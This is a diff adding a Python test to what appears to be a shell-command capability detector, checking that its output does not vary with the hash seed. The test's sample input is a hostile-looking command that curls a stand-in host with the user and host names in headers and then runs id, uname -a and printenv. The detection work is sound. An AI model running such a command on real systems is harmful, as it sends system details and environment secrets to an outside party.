@@ -147,3 +147,23 @@ def test_indicator_order_does_not_depend_on_the_hash_seed() -> None:
         for seed in ("1", "2", "3", "4")
     }
     assert len(seen) == 1, seen
+
+
+def test_command_capabilities_do_not_depend_on_the_hash_seed() -> None:
+    import os
+    import subprocess
+    import sys
+
+    probe = (
+        "from capwatch.capabilities.shell import shell_capabilities\n"
+        "print(shell_capabilities('curl -H \"u: $(whoami)\" -H \"h: $(hostname)\" "
+        "https://x.invalid; id; uname -a; printenv'))\n"
+    )
+    seen = {
+        subprocess.run(
+            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
+            env={**os.environ, "PYTHONHASHSEED": seed},
+        ).stdout
+        for seed in ("1", "2", "3", "4")
+    }
+    assert len(seen) == 1, seen
